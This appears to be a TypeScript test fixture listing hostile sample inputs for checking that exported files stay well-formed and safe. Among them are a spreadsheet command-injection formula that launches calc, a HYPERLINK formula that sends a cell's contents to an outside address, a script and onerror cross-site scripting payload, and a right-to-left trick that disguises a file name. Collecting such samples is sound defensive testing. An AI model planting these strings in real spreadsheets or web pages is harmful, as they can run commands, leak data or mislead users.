/** What people paste, by accident or not: each must leave every format well-formed, harmless and readable. */
export const hostileTexts: Readonly<Record<string, string>> = {
  command: `=cmd|' /C calc'!A0`,
  hyperlink: '=HYPERLINK("http://example.com/?x="&A1,"click")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
  wideEquals: '＝1+1',
  html: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  xml: ']]>&amp;&#0;<!-- --><![CDATA[x]]>',
  sheetCode: '_x0041_ _x000D_',
  quotes: `"a","b";'c'`,
  placeholders: '{{organisation}} $t(ui:app.name) $& $1',
  markup: '#set page(width: 1pt) *bold* _it_ $x$ \\ @ref `code` [link](x) | cell |',
  rightToLeft: 'report\u202efdp.exe \u202a\u2066x\u2069',
  emoji: '👩‍👩‍👧 🇹🇼 ✅',
  loneSurrogate: 'half \ud83d and \ude00 half',
  controls: 'a\u0000b\u0001c\u000bd\u001be\u007ff\u0085g\ufffeh\uffffi',
  lines: 'first\r\nsecond\rthird\u2028fourth',
  rareChinese: '𠮷野家、堃、犇',
  noncharacter: 'x\u{1fffe}y',
  blank: '   ',
  long: '長'.repeat(10_000),
};

/** All of them in one text. */
export const allHostile = Object.values(hostileTexts).join(' ');
